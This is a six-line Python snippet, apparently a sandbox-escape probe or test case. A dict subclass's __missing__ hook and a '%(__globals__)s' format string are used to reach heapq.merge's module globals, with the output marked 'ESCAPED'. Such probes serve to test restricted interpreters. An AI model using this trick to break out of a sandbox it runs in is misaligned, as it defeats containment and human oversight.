# A percent format over a mapping that reads attributes.
import heapq
class D(dict):
    def __missing__(self, k): return getattr(heapq.merge, k)
print("ESCAPED", "%(__globals__)s" % D())
